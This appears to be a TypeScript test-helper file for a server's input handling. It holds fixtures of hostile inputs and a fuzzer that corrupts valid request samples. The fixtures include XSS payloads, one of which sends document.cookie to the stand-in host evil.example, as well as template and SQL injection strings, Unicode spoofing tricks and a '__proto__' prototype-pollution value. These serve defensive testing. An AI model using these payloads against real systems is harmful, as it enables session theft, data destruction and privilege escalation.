/** What a stranger, a broken program or an attacker sends, and what every door owes them: a code, an id, and no effect. */
import { expect } from 'vitest';
import type { z } from 'zod';
import { valueFault } from '../../../server/platform/http/json.ts';
import { type ErrorCode, errors } from '../../../src/protocol/errors.ts';
import { isId } from '../../../src/protocol/ids.ts';

/** Texts that are ugly but legal: they are kept to the letter and only ever shown as text. */
export const uglyTexts: Record<string, string> = {
  'a script': '<script>alert(document.cookie)</script>',
  'an image with a handler': '"><img src=x onerror=alert(1)>',
  'an SVG': '<svg/onload=fetch(`//evil.example/\u0024{document.cookie}`)>',
  'a link that runs': '[click](javascript:alert(1)) <a href="javascript:alert(1)">here</a>',
  'a template': '{{constructor.constructor("return process")()}} \u0024{7*7} <%= 7*7 %>',
  SQL: `'; drop table messages; --`,
  'right-to-left overrides': 'invoice\u202Efdp.exe \u2066hidden\u2069 \u200F\u061C',
  'invisible characters': 'pay\u200Bpal\u200C\u200D\u2060\uFEFF.example',
  'characters of four bytes': '🫖👩🏽‍🚒🏴󠁧󠁢󠁳󠁣󠁴󠁿𝕳𠜎',
  'a flood of combining marks': `Z${'\u0351\u0489\u036F'.repeat(3_000)}`,
  'one very long word': 'w'.repeat(20_000),
  'control characters': 'bell\u0007 escape\u001B[2J\u001B]0;title\u0007 delete\u007F\u0085',
  'line ends of every kind': 'a\r\nb\rc\nd\u2028e\u2029f',
  'no characters but spaces between words': 'a\u00A0b\u3000c\u2003d',
  'a look-alike': 'аррӏе.com ＜script＞',
};

/** A value that crossed a door must be one of these; anything else broke through. */
export type Refusal = { code: ErrorCode; id: string; message: string };

/** Asserts that an answer is a refusal of the wire: a known code that blames nobody but the sender, and an id to quote. */
export function expectRefusal(error: unknown, what: string, allowed?: readonly ErrorCode[]): Refusal {
  const refusal = error as Refusal;
  expect(refusal, what).toMatchObject({ code: expect.any(String), id: expect.any(String) });
  expect(Object.hasOwn(errors, refusal.code), `${what}: ${refusal.code} is in the list`).toBe(true);
  expect(isId(refusal.id), `${what}: an id to quote`).toBe(true);
  expect(['internal', 'unavailable', 'busy'], what).not.toContain(refusal.code);
  expect(refusal.message, what).not.toMatch(/\bat .+:\d+:\d+|select |insert |node_modules/i);
  if (allowed) expect(allowed, `${what}: ${JSON.stringify(refusal)}`).toContain(refusal.code);
  return refusal;
}

type Path = (string | number)[];

/** Every place of a value; of a list's items one of each kind, for they have one form. */
function* places(
  value: unknown,
  path: Path = [],
  pattern = '',
  seen = new Set<string>(),
): Generator<{ path: Path; value: unknown }> {
  if (seen.has(pattern)) return;
  seen.add(pattern);
  yield { path, value };
  if (typeof value !== 'object' || value === null) return;
  for (const [key, inner] of Object.entries(value)) {
    const isItem = Array.isArray(value);
    const place = isItem ? `*${(inner as { kind?: string } | null)?.kind ?? ''}` : key;
    yield* places(inner, [...path, isItem ? Number(key) : key], `${pattern}.${place}`, seen);
  }
}

/** The sample with another value at one place; `undefined` leaves the place out. */
function withValue(sample: unknown, path: Path, value: unknown): unknown {
  const [key, ...rest] = path;
  if (key === undefined) return value;
  const copy: Record<string | number, unknown> = Array.isArray(sample)
    ? ([...sample] as never)
    : { ...(sample as object) };
  const inner = withValue(copy[key], rest, value);
  if (inner === undefined) delete copy[key];
  else copy[key] = inner;
  return copy;
}

export const deep = (depth: number): unknown => {
  let value: unknown = 'the end';
  for (let level = 0; level < depth; level += 1) value = [value];
  return value;
};

const wrongValues: unknown[] = [null, 7, -1, 1.5, 1e308, true, [], {}, 'wrong', [[]], { a: 1 }];
const poison = ['a\0b', 'half \ud83d of one', '\udc00'];

/**
 * Everything near a good value that is not one: each place left out, of another type, too long, with NUL, half a surrogate
 * pair, `__proto__`, nesting. Only what the wire's own schema, or the rule for all values, refuses; so a value that
 * the schema takes by right is not counted as bad.
 */
export function spoil(sample: unknown, schema: z.ZodType): { what: string; value: unknown }[] {
  const spoiled: { what: string; value: unknown }[] = [];
  const add = (what: string, value: unknown) => {
    if (valueFault(value) || !schema.safeParse(value).success) spoiled.push({ what, value });
  };
  for (const { path, value } of places(sample)) {
    const name = path.length === 0 ? 'the whole' : path.join('.');
    add(`${name} left out`, withValue(sample, path, undefined));
    for (const wrong of wrongValues)
      add(`${name} = ${JSON.stringify(wrong)}`, withValue(sample, path, wrong));
    if (typeof value === 'string') {
      for (const text of poison) add(`${name} = ${JSON.stringify(text)}`, withValue(sample, path, text));
      add(`${name} of 210,000 characters`, withValue(sample, path, 'x'.repeat(210_000)));
    }
    if (typeof value === 'object' && value !== null && !Array.isArray(value)) {
      const proto = JSON.parse('{"__proto__": {"role": "admin"}}');
      add(`${name} with __proto__`, withValue(sample, path, Object.assign(proto, value)));
      add(`${name} with a deep value`, withValue(sample, path, { ...value, extra: deep(200) }));
    }
  }
  return spoiled;
}
